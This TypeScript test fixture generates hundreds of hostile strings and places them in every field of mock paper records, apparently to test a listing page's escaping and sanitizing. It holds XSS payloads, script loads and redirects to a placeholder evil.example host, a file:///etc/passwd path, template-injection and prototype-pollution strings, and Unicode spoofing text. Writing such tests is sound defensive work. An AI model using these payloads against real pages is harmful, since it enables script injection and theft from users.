/** Texts that would do something to a page that takes them for more than text. None is from a real listing. */

/** A script that ran leaves this mark on the window. */
export const MARK = "hacked";

const RUN = `${MARK}=1`;

/** What each tries is told by the group it stands in. */
const SEEDS: readonly string[] = [
  // Markup that runs.
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<script type="module">import("//evil.example/x.js")</script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src="https://evil.example/pixel.png">`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<math><mtext><table><mglyph><style><img src onerror=${RUN}>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<object data="data:text/html,<script>${RUN}</script>"></object>`,
  `<embed src="//evil.example/x.swf">`,
  `<body onload=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<a href="javascript:${RUN}">click</a>`,
  `<form action="https://evil.example/"><button>go</button></form>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  `<style>@import "https://evil.example/x.css"; body { display: none }</style>`,
  `<div style="position:fixed;inset:0;background:url(https://evil.example/)">`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  // Ends of where the text stands.
  `</script><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</style></textarea></noscript><script>${RUN}</script>`,
  `"><script>${RUN}</script>`,
  `' onmouseover='${RUN}`,
  `" autofocus onfocus="${RUN}" x="`,
  `--><script>${RUN}</script>`,
  `<!--`,
  `<!-- <script>`,
  `<!--><script>${RUN}</script>-->`,
  `]]><script>${RUN}</script>`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `<?php ${RUN} ?>`,
  `</div></main></body></html><script>${RUN}</script>`,
  // Addresses that run.
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}//https://example.org`,
  `java\tscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `vbscript:${RUN}`,
  `https://example.org/"onmouseover="${RUN}`,
  `https://example.org/'><script>${RUN}</script>`,
  `//evil.example/x.js`,
  String.raw`\\evil.example\share`,
  `file:///etc/passwd`,
  `blob:https://example.org/${RUN}`,
  // TeX that links, styles, loads, defines or never ends.
  String.raw`$\href{javascript:${RUN}}{x}$`,
  String.raw`$\url{javascript:${RUN}}$`,
  String.raw`$\includegraphics{https://evil.example/x.png}$`,
  String.raw`$\class{evil}{x}$ $\id{content}{x}$ $\style{display:none}{x}$ $\data{a=b}{x}$`,
  String.raw`$\text{<img src=x onerror=${RUN}>}$`,
  String.raw`$x" onmouseover="${RUN}$`,
  String.raw`$\def\a{\a\a}\a$`,
  String.raw`$\newcommand{\x}{<script>${RUN}</script>}\x$`,
  String.raw`$\begin{array}{c} x$`,
  String.raw`$\unicode{x3c}script\unicode{x3e}$`,
  String.raw`\href{javascript:${RUN}}{x}`,
  `$${"{".repeat(300)}x${"}".repeat(300)}$`,
  // Templates, prototypes and replacement patterns.
  "{{constructor.constructor('hacked=1')()}}",
  "${hacked=1}",
  "<%= hacked=1 %>",
  "#{hacked=1}",
  "$& $` $' $1 $$ $<name>",
  "__proto__",
  "constructor",
  "toString hasOwnProperty valueOf",
  '{"__proto__":{"isAdmin":true}}',
  "undefined null NaN true",
  "%s %d %n %00 %3Cscript%3E",
  // Entities, and letters that are not what they seem.
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  "&amp;lt;b&amp;gt; &nbsp; &notanentity; &#xD800;",
  `\uFF1Cscript\uFF1E${RUN}\uFF1C/script\uFF1E`,
  `line\u2028${RUN}\u2029//`,
  `\u202E${RUN}\u202C`,
  `\u2066\u2067<b>\u2069`,
  `a\u0000b\u0007c\u001Bd`,
  `\uFEFF\u200B\u200D<b>x</b>`,
  "Z\u0351\u036B\u0343\u036A\u0302A\u0341L\u0320G\u0348O",
  "\uD83D\uDE00 \uD83D lone",
];

/** Ways to bring a text in. */
const WRAPS: readonly ((seed: string) => string)[] = [
  (seed) => seed,
  (seed) => `"${seed}"`,
  (seed) => `On ${seed}, once more`,
  (seed) => `\${${seed}}`,
  (seed) => `$${seed}$`,
  (seed) => seed.toUpperCase(),
  (seed) => seed.replaceAll("<", "<<").replaceAll(">", ">>"),
];

/** Over five hundred, each once. */
export const HOSTILE: readonly string[] = [...new Set(WRAPS.flatMap((wrap) => SEEDS.map(wrap)))];

/** A paper for each, with the text in every field that takes one; the number keeps apart what folds to the same. */
export function hostilePapers(
  texts: readonly string[] = HOSTILE,
): { title: string; [field: string]: unknown }[] {
  return texts.map((text, at) => ({
    title: `${text} (${at})`,
    // Half of them by their name, half by its parts.
    authors: [at % 2 === 0 ? `Ada ${text} Byron` : { name: text, given: text, family: text }],
    abstract: `It was said: ${text} See https://example.org/${at}?q=${text} and ${text}`,
    organization: text,
    venue: text,
    doi: `${text}${at}`,
    arxiv: `${text}${at}`,
    date: "2024-06-10",
    places: [{ path: [text, `${text} ${at}`], score: 0.5 }],
    links: [
      { kind: "code", url: text },
      { kind: "other", url: `https://example.org/${text}` },
    ],
    conflicts: [{ field: text, kept: { value: text, file: text }, others: [{ value: text, file: text }] }],
    repairs: [{ field: text, rule: text, before: text, after: text }],
  }));
}
